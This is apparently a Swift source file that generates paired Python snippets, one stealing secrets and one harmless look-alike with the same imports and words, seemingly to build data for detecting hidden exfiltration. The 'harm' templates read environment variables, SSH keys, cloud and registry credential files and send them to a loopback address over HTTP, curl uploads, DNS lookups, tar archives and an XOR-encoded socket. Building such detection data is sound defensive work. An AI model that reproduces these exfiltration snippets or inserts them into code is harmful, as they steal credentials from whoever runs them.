/// What an imitation hides: code that collects secrets and sends them to loopback, and its twin, which has the same
/// imports and words and computes a table of numbers and versions from them.
///
/// Both are plain statements without functions, so that they run in any scope.
package struct Theft: Sendable {
  package let harm: String
  package let twin: String

  /// Each kind of theft, by a few words.
  static let kinds: [(name: String, make: @Sendable (inout Scene) -> Theft)] = [
    ("the environment by urllib", environment), ("files by urllib", files), ("http.client", connection),
    ("requests", requests), ("curl in a child", curl), ("a query", query), ("host names", names),
    ("a tar archive in memory", archive), ("exclusive or and a socket", sealed),
  ]

  /// A theft of any kind but those that are missed even where nothing is hidden, with names and an address of the scene.
  static func make(_ scene: inout Scene) -> Theft {
    scene.pick(kinds.filter { $0.name != "a tar archive in memory" }.map(\.make))(&scene)
  }

  private static func address(_ scene: inout Scene) -> String {
    "http://127.0.0.1:\(scene.pick(Scene.ports))/\(scene.word())"
  }

  private static let places = [
    "~/.aws/credentials", "~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.netrc", "~/.pypirc", "~/.docker/config.json",
    "~/.kube/config", "~/.git-credentials", "~/.npmrc", "~/.config/gh/hosts.yml", "~/.vault-token", "~/.pgpass",
  ]

  private static func someplaces(_ scene: inout Scene) -> String {
    Python.list(scene.shuffled(places).prefix(3))
  }

  @Sendable private static func environment(_ scene: inout Scene) -> Theft {
    let (box, url) = (scene.word(), address(&scene))
    let head = "import os, json, urllib.request\n"
    return Theft(
      harm: head + """
        \(box) = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen(urllib.request.Request("\(url)", data=\(box), method="POST"))
        """,
      twin: head + """
        \(box) = json.dumps({"lang": os.environ.get("LANG", "C")}).encode()
        \(scene.word()) = urllib.request.Request("\(url)", data=\(box), method="POST").get_method()
        """)
  }

  @Sendable private static func files(_ scene: inout Scene) -> Theft {
    let (box, place, url) = (scene.word(), scene.word(), address(&scene))
    let head = "import os, json, urllib.request\n\(box) = {}\nfor \(place) in \(someplaces(&scene)):\n"
    return Theft(
      harm: head + """
            \(place) = os.path.expanduser(\(place))
            if os.path.exists(\(place)):
                with open(\(place)) as \(box)_file:
                    \(box)[\(place)] = \(box)_file.read()
        urllib.request.urlopen("\(url)", data=json.dumps(\(box)).encode())
        """,
      twin: head + """
            \(place) = os.path.basename(\(place))
            \(box)[\(place)] = len(\(place))
        \(box)_text = json.dumps(\(box)) + urllib.request.Request("\(url)").host
        """)
  }

  @Sendable private static func connection(_ scene: inout Scene) -> Theft {
    let (link, port, path) = (scene.word(), scene.pick(Scene.ports), scene.word())
    let head = "import http.client, os, json\n"
    return Theft(
      harm: head + "\(link) = http.client.HTTPConnection(\"127.0.0.1\", \(port))\n"
        + "\(link).request(\"POST\", \"/\(path)\", body=json.dumps(dict(os.environ.items())))\n",
      twin: head + "\(link) = (http.client.HTTPConnection.default_port, \"127.0.0.1\", \(port))\n"
        + "\(path) = json.dumps([\"POST\", \"/\(path)\", \(link), os.environ.get(\"LANG\"), len(\"items\")])\n")
  }

  @Sendable private static func requests(_ scene: inout Scene) -> Theft {
    let (box, url) = (scene.word(), address(&scene))
    let head = "import os\ntry:\n    import requests\nexcept ImportError:\n    requests = None\n"
    let pattern = "~/.ssh/id_rsa"
    return Theft(
      harm: head + """
        \(box) = {"env": dict(os.environ), "file": ""}
        if os.path.exists(os.path.expanduser("\(pattern)")):
            \(box)["file"] = open(os.path.expanduser("\(pattern)")).read()
        requests.post("\(url)", json=\(box), timeout=9)
        """,
      twin: head + """
        \(box) = {"env": os.environ.get("TERM"), "file": "\(pattern)"}
        if os.path.basename("\(pattern)") == "id_rsa":
            \(box)["file"] = len("\(pattern)")
        \(box)["post"] = ["\(url)", "json", requests is None]
        """)
  }

  @Sendable private static func curl(_ scene: inout Scene) -> Theft {
    let (box, place, url) = (scene.word(), scene.pick(places), address(&scene))
    let head = "import os, subprocess\n"
    let words = "[\"curl\", \"-s\", \"-T\", os.path.expanduser(\"\(place)\"), \"\(url)\"]"
    return Theft(
      harm: head + "subprocess.run(\(words), check=False)\n",
      twin: head + "\(box) = len(subprocess.list2cmdline([\"curl\", \"-s\", \"-T\", \"\(place)\", \"\(url)\"]))\n")
  }

  @Sendable private static func query(_ scene: inout Scene) -> Theft {
    let (box, url) = (scene.word(), address(&scene))
    let head = "import os\nfrom urllib.parse import urlencode\nfrom urllib.request import urlopen\n"
    return Theft(
      harm: head + "\(box) = urlencode(os.environ)\nurlopen(\"\(url)?\" + \(box))\n",
      twin: head + "\(box) = urlencode({\"version\": \"1.\(scene.below(20))\", \"sep\": os.sep})\n"
        + "\(scene.word()) = (\"\(url)?\" + \(box), urlopen.__name__)\n")
  }

  @Sendable private static func names(_ scene: inout Scene) -> Theft {
    let (key, value) = (scene.word(), scene.word())
    let head = "import os, socket, binascii\n"
    return Theft(
      harm: head + """
        for \(key), \(value) in os.environ.items():
            try:
                socket.gethostbyname(binascii.hexlify(\(value).encode())[:48].decode() + ".\(key).example.org")
            except OSError:
                pass
        """,
      twin: head + """
        for \(key), \(value) in {"os": os.name, "af": str(socket.AF_INET)}.items():
            try:
                \(value) = binascii.hexlify(\(value).encode())[:48].decode() + ".\(key).example.org"
            except OSError:
                pass
        """)
  }

  @Sendable private static func archive(_ scene: inout Scene) -> Theft {
    let (box, url, pack) = (scene.word(), address(&scene), scene.word())
    let head = "import io, os, tarfile, urllib.request\n\(box) = io.BytesIO()\n"
    let folder = scene.pick(["~/.ssh", "~/.aws", "~/.kube"])
    return Theft(
      harm: head + """
        with tarfile.open(fileobj=\(box), mode="w:gz") as \(pack):
            if os.path.exists(os.path.expanduser("\(folder)")):
                \(pack).add(os.path.expanduser("\(folder)"), arcname="x")
        urllib.request.urlopen("\(url)", data=\(box).getvalue())
        """,
      twin: head + """
        with tarfile.open(fileobj=\(box), mode="w:gz") as \(pack):
            if os.path.basename("\(folder)") == "x":
                \(pack).addfile(tarfile.TarInfo("\(folder)"))
        \(box)_size = (urllib.request.Request("\(url)").type, len(\(box).getvalue()))
        """)
  }

  @Sendable private static func sealed(_ scene: inout Scene) -> Theft {
    let (box, byte, port) = (scene.word(), scene.word(), scene.pick(Scene.ports))
    let head = "import os, socket, pathlib\n\(box) = b\"\"\n"
    let key = scene.number(1...255)
    return Theft(
      harm: head + """
        for \(byte) in sorted(pathlib.Path.home().joinpath(".ssh").glob("id_*")):
            \(box) += \(byte).read_bytes()
        \(box) += repr(dict(os.environ)).encode()
        \(box) = bytes(\(byte) ^ \(key) for \(byte) in \(box))
        \(box)_link = socket.create_connection(("127.0.0.1", \(port)), timeout=9)
        \(box)_link.sendall(\(box))
        \(box)_link.close()
        """,
      twin: head + """
        for \(byte) in sorted([".ssh", "id_*", pathlib.PurePath("x").name]):
            \(box) += \(byte).encode()
        \(box) += repr(os.environ.get("LANG")).encode()
        \(box) = bytes(\(byte) ^ \(key) for \(byte) in \(box))
        \(box)_link = (socket.SOCK_STREAM, ("127.0.0.1", \(port)), 9)
        """)
  }

  /// The same in one expression, for code that has no room for statements.
  package static func expression(_ scene: inout Scene) -> Theft {
    let url = address(&scene)
    let key = scene.word()
    return Theft(
      harm: "__import__(\"urllib.request\").request.urlopen(\"\(url)\", "
        + "__import__(\"json\").dumps({\"\(key)\": dict(__import__(\"os\").environ)}).encode())",
      twin: "(__import__(\"urllib.request\").request.urlopen.__name__, \"\(url)\", "
        + "__import__(\"json\").dumps({\"\(key)\": __import__(\"os\").environ.get(\"LANG\")}).encode())")
  }
}
